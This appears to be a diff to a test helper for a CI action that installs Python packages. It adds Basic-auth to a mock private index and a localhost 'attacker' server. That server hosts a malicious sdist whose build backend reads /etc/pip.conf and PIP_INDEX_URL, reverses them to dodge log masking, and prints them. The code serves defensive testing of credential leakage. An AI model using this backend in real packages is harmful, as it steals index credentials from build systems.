@@ -50,8 +50,11 @@ with tarfile.open(out + "/flask-action-hostile-1.0.tar.gz", "w:gz") as sdist:
         sdist.addfile(info, io.BytesIO(data))
 `;
 
-/** `hostileOutput` is what the sdist's setup.py prints (to stdout and stderr) before failing. */
-export async function startPrivateIndex(hostileOutput: string): Promise<PrivateIndex> {
+/**
+ * `hostileOutput` is what the sdist's setup.py prints (to stdout and stderr) before failing. With
+ * `login`, every request without that user and password is answered 401, as a company index would.
+ */
+export async function startPrivateIndex(hostileOutput: string, login?: { user: string; password: string }): Promise<PrivateIndex> {
   const dir = mkdtempSync(join(tmpdir(), 'private-index-'));
   execFileSync('python3', ['-c', MAKE, dir, CANARY_MARK, hostileOutput]);
   const own: Record<string, string> = {
@@ -60,8 +63,13 @@ export async function startPrivateIndex(hostileOutput: string): Promise<PrivateI
   };
   const upstream = testbed().pipIndexUrl || 'https://pypi.org/simple/';
   const requests: string[] = [];
+  const expected = login ? `Basic ${Buffer.from(`${login.user}:${login.password}`).toString('base64')}` : '';
   const server = createServer((request, response) => {
     const path = request.url ?? '/';
+    if (login && request.headers.authorization !== expected) {
+      response.writeHead(401, { 'www-authenticate': 'Basic realm="private index"' }).end();
+      return;
+    }
     requests.push(path);
     const project = /^\/simple\/([^/]+)\/?$/.exec(path)?.[1]?.toLowerCase().replace(/[._]+/g, '-');
     if (project !== undefined && own[project] !== undefined) {
@@ -81,6 +89,71 @@ export async function startPrivateIndex(hostileOutput: string): Promise<PrivateI
   return {
     url: `http://127.0.0.1:${port}/simple/`,
     requests,
+    close: () =>
+      new Promise((resolve) =>
+        server.close(() => {
+          rmSync(dir, { recursive: true, force: true });
+          resolve();
+        }),
+      ),
+  };
+}
+
+/** Where the attacker's package prints what it found, as `PIPCONF-…` lines; LEAK_ABSENT when there was nothing. */
+export const LEAK_ABSENT = 'PIPCONF-ABSENT';
+export const LEAK_FOUND = 'PIPCONF-REVERSED:';
+
+// An sdist with its own build backend (requires nothing, so pip needs no index to run it): asked
+// what it needs to build, it prints /etc/pip.conf and PIP_INDEX_URL reversed (as an attacker would,
+// past masking), then fails.
+const MAKE_LEAK = `
+import io, sys, tarfile
+out = sys.argv[1]
+backend = """import os, sys
+def get_requires_for_build_wheel(config_settings=None):
+    try:
+        found = open("/etc/pip.conf").read()
+    except OSError as error:
+        found = None
+        line = "PIPCONF-ABSENT %s" % type(error).__name__
+    if found is not None:
+        line = "PIPCONF-REVERSED:" + found[::-1].replace("\\\\n", "|")
+    line += " ENV-REVERSED:" + os.environ.get("PIP_INDEX_URL", "")[::-1]
+    print(line)
+    print(line, file=sys.stderr)
+    sys.exit(1)
+"""
+files = {
+    "pyproject.toml": '[build-system]\\nrequires = []\\nbuild-backend = "backend"\\nbackend-path = ["."]\\n',
+    "backend.py": backend,
+    "PKG-INFO": "Metadata-Version: 2.1\\nName: flask-action-leak\\nVersion: 1.0\\n",
+}
+with tarfile.open(out + "/flask_action_leak-1.0.tar.gz", "w:gz") as sdist:
+    for name, text in files.items():
+        data = text.encode()
+        info = tarfile.TarInfo("flask_action_leak-1.0/" + name)
+        info.size = len(data)
+        sdist.addfile(info, io.BytesIO(data))
+`;
+
+/**
+ * The attacker's own file server (no login): serves the leaking sdist. A pull request's
+ * requirements.txt names it by URL (`requirement`), so pip fetches it whatever index it has.
+ */
+export async function startAttackerFiles(): Promise<{ requirement: string; close: () => Promise<void> }> {
+  const dir = mkdtempSync(join(tmpdir(), 'attacker-files-'));
+  execFileSync('python3', ['-c', MAKE_LEAK, dir]);
+  const server = createServer((request, response) => {
+    if (request.url === '/flask_action_leak-1.0.tar.gz') {
+      response.writeHead(200, { 'content-type': 'application/octet-stream' }).end(readFileSync(join(dir, 'flask_action_leak-1.0.tar.gz')));
+    } else {
+      response.writeHead(404).end();
+    }
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const port = (server.address() as AddressInfo).port;
+  return {
+    requirement: `flask-action-leak @ http://127.0.0.1:${port}/flask_action_leak-1.0.tar.gz`,
     close: () =>
       new Promise((resolve) =>
         server.close(() => {
